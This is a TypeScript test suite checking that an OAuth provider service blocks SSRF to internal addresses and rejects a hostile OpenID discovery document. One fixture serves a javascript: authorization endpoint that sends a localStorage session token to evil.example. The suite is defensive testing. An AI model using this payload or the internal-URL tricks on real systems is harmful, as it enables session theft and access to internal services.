import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Code } from '@connectrpc/connect';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { create } from '@bufbuild/protobuf';
import { ConnectionStatus } from '../../gen/ts/nexus/v1/connection_pb.js';
import { TokenResponsePathsSchema } from '../../gen/ts/nexus/v1/provider_pb.js';
import { systemResolver, type Resolver } from '../../src/domain/outbound/outbound-policy.js';
import { callback } from '../support/consent.js';
import { expectConnectError } from '../support/errors.js';
import { oauthProvider } from '../support/fixtures.js';
import { TestAuthServer } from '../support/oauth-server.js';
import { allowOutbound, allowedOutboundHosts } from '../support/outbound-hosts.js';
import { ADMIN_KEY, RETURN_URL, clients, startTestApp, type Clients, type TestApp } from '../support/test-app.js';

/** An "internal service" on loopback, NOT on the allow-list: it records every connection and request it gets. */
async function internalService(): Promise<{ server: Server; port: number; connections: number; requests: IncomingMessage[] }> {
  const state = { connections: 0, requests: [] as IncomingMessage[] };
  const server = createServer((req, res) => {
    state.requests.push(req);
    // What an internal service might answer: JSON that a token-response path mapping would lift.
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"access_token":"internal-secret-data","token_type":"bearer"}');
  });
  server.on('connection', () => state.connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return Object.assign(state, { server, port: (server.address() as AddressInfo).port });
}

/** An authorization server whose OpenID discovery document names a javascript: authorization endpoint. */
async function hostileDiscovery(): Promise<{ server: Server; issuer: string }> {
  const server = createServer((req, res) => {
    const issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    if (req.url === '/.well-known/openid-configuration') {
      res.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          issuer,
          authorization_endpoint: 'javascript:fetch("https://evil.example/"+localStorage.getItem("nexus.session"))//',
          token_endpoint: `${issuer}/token`,
          response_types_supported: ['code'],
          subject_types_supported: ['public'],
          id_token_signing_alg_values_supported: ['RS256'],
        }),
      );
    } else res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, issuer: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

// internal.test names the internal service (as an internal DNS name would); other names resolve as usual.
const resolver: Resolver = async (hostname) => (hostname === 'internal.test' ? [{ address: '127.0.0.1', family: 4 }] : systemResolver(hostname));

describe('provider endpoints go through the SSRF-safe fetch and the outbound policy', () => {
  let auth: TestAuthServer;
  let internal: Awaited<ReturnType<typeof internalService>>;
  let hostile: Awaited<ReturnType<typeof hostileDiscovery>>;
  let nexus: TestApp;
  let api: Clients;

  beforeAll(async () => {
    auth = await TestAuthServer.start();
    internal = await internalService();
    hostile = await hostileDiscovery();
    allowOutbound(new URL(hostile.issuer).host);
    nexus = await startTestApp({ backend: 'embedded', outboundResolver: resolver });
    api = clients(nexus.baseUrl, ADMIN_KEY);
    // The precondition of every test below: the internal service is not allow-listed, the AS is.
    expect(nexus.config.outboundAllowedHosts).not.toContain(`127.0.0.1:${internal.port}`);
    expect(allowedOutboundHosts()).toContain(new URL(auth.issuer).host);
  });
  afterAll(async () => {
    await nexus?.close();
    await auth?.stop();
    internal?.server.close();
    hostile?.server.close();
  });

  const connectWith = async (name: string, workspaceId: string) => {
    const created = await api.connections.createConnection({ workspaceId, provider: { case: 'providerName', value: name }, returnUrl: RETURN_URL });
    return { created, result: await callback(await auth.consent(created.authUrl)) };
  };

  it('a token URL at an internal address by name: the code exchange is refused before any byte (no client secret sent)', async () => {
    const provider = oauthProvider(auth, { name: 'to-internal-by-name' });
    provider.oauth2!.tokenUrl = `https://internal.test:${internal.port}/token`;
    provider.oauth2!.tokenResponsePaths = create(TokenResponsePathsSchema, { accessToken: 'access_token' });
    await api.providers.createProvider({ provider });
    const { created, result } = await connectWith('to-internal-by-name', 'ssrf-1');
    expect(new URL(result.location!).searchParams.get('status')).toBe('error');
    expect(new URL(result.location!).searchParams.get('error')).toBe('url_not_allowed');
    expect((await api.connections.getConnection({ connectionId: created.connection!.id })).connection?.status).toBe(ConnectionStatus.FAILED);
    expect(internal.connections).toBe(0);
    expect(internal.requests).toHaveLength(0);
    expect(nexus.logs.join('')).toMatch(/internal\.test resolves to a loopback address/);
    expect(nexus.logs.join('')).not.toContain(auth.clientSecret);
  });

  it('a token URL moved to an internal address later: refresh (GetToken) is refused, the internal JSON never comes back', async () => {
    await api.providers.createProvider({ provider: oauthProvider(auth, { name: 'moved-later' }) });
    const { created, result } = await connectWith('moved-later', 'ssrf-2');
    expect(result.location, nexus.logs.slice(-3).join('')).toMatch(/status=success/);
    const id = created.connection!.id;
    for (const tokenUrl of [`http://127.0.0.1:${internal.port}/token`, `https://internal.test:${internal.port}/token`]) {
      const provider = oauthProvider(auth, { name: 'moved-later' });
      provider.oauth2!.tokenUrl = tokenUrl;
      provider.oauth2!.tokenResponsePaths = create(TokenResponsePathsSchema, { accessToken: 'access_token' });
      await api.providers.updateProvider({ provider, updateMask: { paths: ['oauth2.token_url', 'oauth2.token_response_paths'] } });
      const err = await expectConnectError(api.tokens.refreshToken({ connectionId: id }), Code.FailedPrecondition, 'URL_NOT_ALLOWED');
      expect(err.rawMessage).not.toContain('internal-secret-data');
    }
    expect(internal.connections).toBe(0);
    expect(internal.requests).toHaveLength(0);
  });

  it('a revocation URL at an internal address: DeleteConnection deletes, and nothing reaches the service', async () => {
    const provider = oauthProvider(auth, { name: 'revoke-internal' });
    provider.oauth2!.revocationUrl = `https://internal.test:${internal.port}/revoke`;
    await api.providers.createProvider({ provider });
    const { created, result } = await connectWith('revoke-internal', 'ssrf-3');
    expect(result.location).toMatch(/status=success/);
    const deleted = await api.connections.deleteConnection({ connectionId: created.connection!.id });
    expect(deleted.revokedAtProvider).toBe(false);
    expect(internal.connections).toBe(0);
    // The same URL by IP literal is refused before the user is even sent to consent.
    provider.oauth2!.revocationUrl = `http://127.0.0.1:${internal.port}/revoke`;
    await api.providers.updateProvider({ provider, updateMask: { paths: ['oauth2.revocation_url'] } });
    const err = await expectConnectError(
      api.connections.createConnection({ workspaceId: 'ssrf-3b', provider: { case: 'providerName', value: 'revoke-internal' }, returnUrl: RETURN_URL }),
      Code.FailedPrecondition,
      'URL_NOT_ALLOWED',
    );
    expect(err.rawMessage).toMatch(/^revocation_endpoint must be https/);
    expect(internal.connections).toBe(0);
  });

  it('a discovery document cannot put a javascript: authorization endpoint in front of a browser', async () => {
    const provider = oauthProvider(auth, { name: 'hostile-oidc' });
    provider.oauth2 = { ...provider.oauth2!, authorizationUrl: '', tokenUrl: '', revocationUrl: '', issuer: hostile.issuer };
    await api.providers.createProvider({ provider });
    const err = await expectConnectError(
      api.connections.createConnection({ workspaceId: 'ssrf-4', provider: { case: 'providerName', value: 'hostile-oidc' }, returnUrl: RETURN_URL }),
      Code.FailedPrecondition,
      'URL_NOT_ALLOWED',
    );
    expect(err.rawMessage).toMatch(/authorization_endpoint/);
    expect(err.rawMessage).not.toContain('javascript');
  });

  it('an issuer at an internal address: discovery is refused before connecting', async () => {
    const provider = oauthProvider(auth, { name: 'internal-oidc' });
    provider.oauth2 = { ...provider.oauth2!, authorizationUrl: '', tokenUrl: '', revocationUrl: '', issuer: `https://internal.test:${internal.port}` };
    await api.providers.createProvider({ provider });
    await expectConnectError(
      api.connections.createConnection({ workspaceId: 'ssrf-5', provider: { case: 'providerName', value: 'internal-oidc' }, returnUrl: RETURN_URL }),
      Code.FailedPrecondition,
      'URL_NOT_ALLOWED',
    );
    expect(internal.connections).toBe(0);
  });
});
